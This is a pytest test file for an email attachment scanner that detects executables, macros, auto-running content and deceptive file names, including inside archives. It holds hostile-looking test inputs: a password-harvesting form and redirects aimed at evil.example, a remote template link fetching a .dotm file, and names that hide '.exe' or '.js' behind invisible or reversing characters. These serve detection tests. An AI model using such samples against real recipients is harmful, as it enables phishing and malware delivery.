"""What attachments truly are and what they do, whatever their names and types say, also inside containers."""

from __future__ import annotations

import base64
import hashlib
from email.message import EmailMessage
from urllib.parse import quote

import pytest

from civicmail.core.message import message_parser
from civicmail.mail.screening import files, message_reader, vba
from civicmail.mail.screening.allowance import Allowance
from civicmail.mail.screening.reader_request import ReadMessage
from civicmail.mail.screening.shapes import CheckResult
from core.sandbox import samples
from mail.screening import filesamples as made
from mail.screening.filecases import ACTIVE, HONEST, LOCKED, MACROS, OPENS, PROGRAMS, QUIET, mail, zipped


def found(*attached: tuple[str, bytes], declared: str = "application/octet-stream") -> CheckResult:
    return files.scan_files(message_parser.parse(mail(*attached, declared=declared)), Allowance())


def true(found: CheckResult) -> set[str]:
    return {fact.removeprefix("files.") for fact, value in found.facts.items() if value is True}


def masks(found: CheckResult, code: str) -> list[str]:
    return [finding.mask for finding in found.findings if finding.code == code]


@pytest.mark.parametrize("name", PROGRAMS)
def test_programs_and_scripts_are_seen_plain_and_in_archives(name: str) -> None:
    """P-25."""
    content = PROGRAMS[name]
    assert "executable" in true(found((name, content)))
    assert "executable" in true(found(("a.zip", zipped(name, content))))
    assert "executable" in true(found(("a.zip", zipped("inner.zip", zipped(name, content)))))
    assert "executable" in true(found(("a.tar", samples.tarred({name: content}))))
    assert "executable" in true(found(("a.7z", samples.seven({name: content}))))


@pytest.mark.rule("P-25", "A program or script is recognized by its content, under any name and type, also in archives.")
def test_a_program_under_another_name_or_type_is_seen_by_what_it_is() -> None:
    for name in ("photo.jpg", "letter.pdf", "letter.docx", "readme.txt", ""):
        seen = found((name, made.PROGRAM), declared="image/jpeg")
        assert {"executable", "mismatch"} <= true(seen), name
        assert seen.facts["files.types"] == ("exe",)


@pytest.mark.parametrize("name", HONEST)
def test_honest_files_are_nothing_but_files(name: str) -> None:
    seen = found((name, HONEST[name]))
    assert true(seen) == set() and seen.facts["files.count"] == 1
    assert [finding for finding in seen.findings if finding.sure >= 50] == []


@pytest.mark.parametrize(
    "name",
    [
        "invoice.pdf.exe",
        "invoice\u202efdp.exe",
        "invoice.pdf                                   .exe",
        "invoice.exe. . ",
        "invoice.pdf\u2024exe",
        "invoice.e\u200bxe",
        "invoice.exe::$DATA",
    ],
)
def test_a_name_that_hides_what_it_is_called_is_seen(name: str) -> None:
    """In a container, and of an attachment, whose name is cut for its reader."""
    inside = found(("a.zip", zipped(name, made.PROGRAM)))
    assert {"executable", "mismatch"} <= true(inside)
    assert {"executable", "mismatch"} <= true(found((name, made.PROGRAM)))


@pytest.mark.rule("P-25", "A trick in the name of an attachment is detected before characters are removed from it for its reader.")
@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("plan\u202efdp.html", "name-overridden"),
        ("plan\u202dfdp.docm", "name-overridden"),
        ("plan\u2067fdp.js", "name-turned"),
        ("plan\u061cfdp.js", "name-turned"),
        ("plan.pdf" + "\u00a0" * 40 + ".js", "name-gap"),
        ("plan.pdf" + "\u2800" * 40 + ".js", "name-gap"),
        ("plan.pdf" + "\u3164" * 40 + ".js", "name-gap"),
        ("plan.pdf\uff0ejs", "name-dots"),
        ("plan.pdf\u3002js", "name-dots"),
        ("plan.j\u200bs", "name-unseen"),
        ("plan.j\u2060s", "name-unseen"),
        ("plan.j\U000e0041s", "name-unseen"),
        ("plan.j\u00ads", "name-unseen"),
    ],
)
def test_a_trick_in_the_name_of_an_attachment_is_seen_however_the_name_is_written(name: str, code: str) -> None:
    """Letters that nobody sees were cut out before they were looked for."""
    raw = mail((name, b"var x = 1;"))
    assert [f.code for f in found((name, b"var x = 1;")).findings].count(code) == 1
    (part,) = message_parser.parse(raw).attachments
    assert part.filename.isprintable(), "a reader is shown it without them"
    word = f"=?utf-8?b?{base64.b64encode(name.encode()).decode()}?="
    for head in (
        f'Content-Type: application/octet-stream; name="{word}"',
        f"Content-Disposition: attachment; filename*=utf-8''{quote(name)}",
    ):
        message = message_parser.parse(f"{head}\r\n\r\nvar x = 1;".encode())
        assert code in [f.code for f in files.scan_files(message, Allowance()).findings], head


def test_a_zip_in_the_shape_of_a_document_or_behind_a_picture_is_one_all_the_same() -> None:
    """Whoever opens it as an archive finds the program."""
    document = samples.docx(samples.paragraph("words"), evil_dot_exe=made.PROGRAM)
    assert "executable" in true(found(("plan.zip", document)))
    behind = b"\xff\xd8\xff\xe0" + bytes(500) + zipped("evil.exe", made.PROGRAM)
    assert {"executable", "mismatch"} <= true(found(("photo.jpg", behind)))
    inside = samples.tarred({"a.zip": zipped("a.txt", b"x")})
    assert "mismatch" not in true(found(("files.tar", inside)))


def test_names_of_parts_are_compared_as_office_does() -> None:
    """P-25."""
    relations = made.relations("attachedTemplate", "https://evil.example/t.dotm")
    odd = samples.zipped(
        {"[content_types].XML": "<Types/>", "Word\\document.xml": "<d/>", "Word\\_Rels\\settings.xml.RELS": relations}
    )
    seen = found(("letter.docx", odd))
    assert seen.facts["files.types"] == ("docx",) and true(seen) == {"active"}
    macros = samples.zipped(
        {"[Content_types].xml": "<Types/>", "XL/workbook.xml": "<d/>", "XL/VbaProject.BIN": samples.ole(made.project(OPENS))}
    )
    assert "macros" in true(found(("table.xlsx", macros)))


def test_a_finding_names_the_part_and_a_member_by_ending_and_digest() -> None:
    seen = found(("one.txt", b"x"), ("a.zip", zipped("Secret of Ann.pdf.exe", made.PROGRAM)))
    (program,) = [finding for finding in seen.findings if finding.code == "executable"]
    assert program.part == "1.3" and program.length > 0 and program.mask.startswith(".exe ") and program.mask.endswith(" exe")
    assert not any("Secret" in finding.mask for finding in seen.findings)
    assert [row[:2] for row in seen.more["places"]] == [("1.2", seen.more["places"][0][1]), ("1.3", program.offset)]
    ((part, name, _, word, size, digest),) = seen.more["members"]
    assert part.startswith("1.3!") and name == "Secret of Ann.pdf.exe" and word == "exe" and size == len(made.PROGRAM)
    assert len(digest) == 64


@pytest.mark.parametrize("name", MACROS)
def test_macros_are_seen_in_whatever_document(name: str) -> None:
    """P-25."""
    assert "macros" in true(found((name, MACROS[name])))
    assert "macros" in true(found(("a.zip", zipped(name, MACROS[name]))))


def test_macros_under_a_harmless_name_and_by_declared_type() -> None:
    assert "macros" in true(found(("letter.docx", made.docm(QUIET))))
    types = "<Types><Override ContentType='application/vnd.ms-office.vbaProject'/></Types>"
    renamed = samples.zipped({"[Content_Types].xml": types, "word/document.xml": "<d/>", "word/data.bin": b"x"})
    assert "macros" in true(found(("letter.docx", renamed)))


@pytest.mark.rule("P-25", "Macros are detected in every kind of document; empty modules do not count.")
def test_an_automatic_macro_is_surer_than_a_quiet_one_and_empty_modules_are_none() -> None:
    """Excel of the nineties writes a project of empty modules into each file."""
    assert masks(found(("m.docm", made.docm(OPENS))), "macros")[0].endswith("vba code automatic starts-programs")
    quiet = [f for f in found(("m.docm", made.docm(QUIET))).findings if f.code == "macros"]
    assert quiet[0].mask.endswith("vba code") and quiet[0].sure < 100
    empty = samples.ole({**made.project("", storage="_VBA_PROJECT_CUR/VBA"), "Workbook": b"\x09\x08"})
    assert "macros" not in true(found(("old.xls", empty)))
    stomped = samples.ole(made.project("", storage="Macros/VBA", compiled=20_000))
    assert masks(found(("m.doc", stomped)), "macros") == ["vba stomped"]


@pytest.mark.rule(
    "P-25",
    "Content that acts on opening is detected, also in compressed streams; a form's own scripts are no reason.",
)
@pytest.mark.parametrize("name", ACTIVE)
def test_what_acts_when_it_is_opened_is_seen(name: str) -> None:
    assert "active" in true(found((name, ACTIVE[name])))


def test_files_inside_documents_and_images_are_looked_at_as_well() -> None:
    for name in ("carrier.pdf", "package.doc", "disc.iso"):
        assert "executable" in true(found((name, ACTIVE[name]))), name
    file = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + len(made.PROGRAM).to_bytes(8, "little") + bytes(12) + made.PROGRAM
    assert "executable" in true(found(("n.one", made.NOTES + file)))
    item = samples.msg("s", "b", made.PROGRAM)
    assert "executable" in true(found(("item.msg", item)))
    attached = mail(("setup.exe", made.PROGRAM))
    assert "executable" in true(found(("mails.zip", zipped("a.eml", attached))))


def test_a_forms_own_scripts_and_a_writers_own_template_are_no_reason() -> None:
    field = made.pdf(b"/AcroForm << /Fields [4 0 R] >>", b"<< /FT /Tx /AA << /K << /S /JavaScript /JS (AFNumber_Format) >> >> >>")
    template = made.relations("attachedTemplate", "file:///C:\\Program%20Files\\Normal.dotm")
    own = samples.docx(word___rels__settings_dot_xml_dot_rels=template)
    link = samples.docx(word___rels__document_dot_xml_dot_rels=made.relations("hyperlink", "https://city.example/"))
    quoted = samples.docx('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK "x DDE y"</w:instrText></w:r>')
    shown = made.pdf(b"", b"<< /FT /Tx /AA << /K 5 0 R >> /MK << >> /F 4 /O 3 >>", b"<< /S /JavaScript /JS (x) >>")
    manual = made.pdf(b"", b"<< /S /Launch /F 5 0 R >>", b"<< /Type /Filespec /F (toolkit\\056pdf) >>")
    clicked = samples.docx(word___rels__document_dot_xml_dot_rels=made.relations("hyperlink", "javascript://"))
    place = made.object_stream(b"9 0 << /S /GoTo /D [3 0 R /Fit] >>")
    packed = made.pdf(b"/OpenAction 9 0 R", b"<< /FT /Tx /AA << /K << /S /JavaScript /JS (x) >> >> >>", place)
    for name, content in (
        ("form.pdf", field),
        ("packed.pdf", packed),
        ("shown.pdf", shown),
        ("manual.pdf", manual),
        ("c.docx", clicked),
        ("own.docx", own),
        ("link.docx", link),
        ("quoted.docx", quoted),
    ):
        assert "active" not in true(found((name, content))), name


@pytest.mark.parametrize(
    "content",
    [
        b"<html><form action='https://evil.example/'><input type=password></form></html>",
        b"<html><script>location='https://evil.example/'</script></html>",
        b"<html><meta http-equiv=refresh content='0;url=https://evil.example/'></html>",
        b"<html><body onload=go()></html>",
        b"<html><a href='data:text/html;base64,PHNjcmlwdD4='>x</a></html>",
        b"<html><iframe src=https://evil.example/></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
        b"<?xml version='1.0'?><svg onload='x()' xmlns='http://www.w3.org/2000/svg'/>",
        b"words before the page" * 300 + b"<script>1</script>",
        "\ufeff<html><script>1</script></html>".encode("utf-16-le"),
    ],
)
def test_pages_that_came_as_files_are_looked_through(content: bytes) -> None:
    assert "form" in true(found(("page.html", content)))
    assert "form" in true(found(("a.zip", zipped("page.html", content))))


@pytest.mark.parametrize("name", LOCKED)
def test_what_has_a_password_is_a_verdict_of_its_own(name: str) -> None:
    assert true(found((name, LOCKED[name]))) == {"encrypted"}


@pytest.mark.parametrize(
    "content", [made.locked_zip("run.exe", b"x"), made.rar("run.exe", locked=True), made.rar5("run.exe"), made.cabinet("run.exe")]
)
def test_a_program_in_what_cannot_be_unpacked_is_seen_by_its_name(content: bytes) -> None:
    assert "executable" in true(found(("a.bin", content)))


def test_a_pdf_that_opens_without_a_password_is_looked_into() -> None:
    """Many forms have a password for changing them, and none for reading."""
    runs = b"/OpenAction << /S /JavaScript /JS (x) >>"
    assert true(found(("a.pdf", made.pdf_locked(b"", b"")))) == set()
    assert true(found(("a.pdf", made.pdf_locked(runs, b"")))) == {"active"}
    assert true(found(("a.pdf", made.pdf_locked(runs, b"secret")))) == {"encrypted"}


def test_what_lies_in_containers_is_listed_with_its_digest() -> None:
    raw = mail(("a.zip", zipped("plan.docx", HONEST["letter.docx"])))
    seen = message_reader.read(raw, ReadMessage(checks=("files",), size=len(raw), source="mx", inbound=True))
    assert [(file.name, file.true) for file in seen.files] == [("a.zip", "zip"), ("plan.docx", "docx")]
    assert seen.files[1].sha256 == hashlib.sha256(HONEST["letter.docx"]).hexdigest()


@pytest.mark.parametrize(
    "content",
    [
        b"PK\3\4 no more",
        b"7z\xbc\xaf\x27\x1c\0\4 no more",
        samples.PACKERS["gz"](b"words" * 99)[:-9],
        bytes(7) + b"**ACE**",
        b"\x60\xea" + bytes(9),
    ],
)
def test_what_cannot_be_looked_into_is_told(content: bytes) -> None:
    assert true(found(("a.bin", content))) == {"unread"}
    assert "unread" in true(found(("a.zip", zipped("a.bin", content))))


def test_pictures_of_the_text_are_not_counted_and_attached_messages_are_looked_through() -> None:
    outer = EmailMessage()
    outer["From"] = "carol@home.example"
    outer.set_content("x")
    inner = EmailMessage()
    inner["From"], inner["Subject"] = "dan@home.example", "inner"
    inner.set_content("y")
    inner.add_attachment(made.PROGRAM, maintype="application", subtype="octet-stream", filename="a.exe")
    outer.add_attachment(inner)
    outer.add_attachment(b"\x89PNG\r\n\x1a\n", maintype="image", subtype="png", cid="<1@x>", filename="logo.png")
    seen = files.scan_files(message_parser.parse(outer.as_bytes()), Allowance())
    assert seen.facts["files.count"] == 2, "the message and its file"
    assert [f.part for f in seen.findings if f.code == "executable"] == ["1.2/1.2"]


@pytest.mark.parametrize(
    ("packed", "text"),
    [
        ("0119b000616263646566676800696a6b6c6d6e6f7000717273747576" + "2e", b"abcdefghijklmnopqrstuv."),
        (
            "012fb000236161616263646582660070616768696a013808616b6c00306d6e6f700671027004107273747576107778797a003c",
            b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa",
        ),
        ("0103b002614500", b"a" * 73),
        ("", b""),
        ("01", b""),
        ("0103b0ff0000ffff", b""),
    ],
)
def test_text_of_a_macro_is_unpacked_as_its_standard_says(packed: str, text: bytes) -> None:
    """MS-OVBA 3.2, and what is no container."""
    assert vba.expanded(bytes.fromhex(packed), 1 << 20) == text
